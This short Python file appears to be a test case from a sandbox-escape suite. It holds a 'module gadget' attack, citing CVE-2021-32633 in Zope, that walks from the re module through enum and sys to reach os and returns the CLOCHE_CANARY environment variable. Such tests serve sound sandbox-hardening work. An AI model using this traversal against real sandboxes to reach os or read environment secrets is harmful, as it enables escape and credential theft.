"""Class: module gadget. Source: CVE-2021-32633 (Zope). Escape: re has imported enum, which has imported sys."""

import re


def attack(model, tokenizer, address):
    return re.enum.sys.modules["os"].environ["CLOCHE_CANARY"]
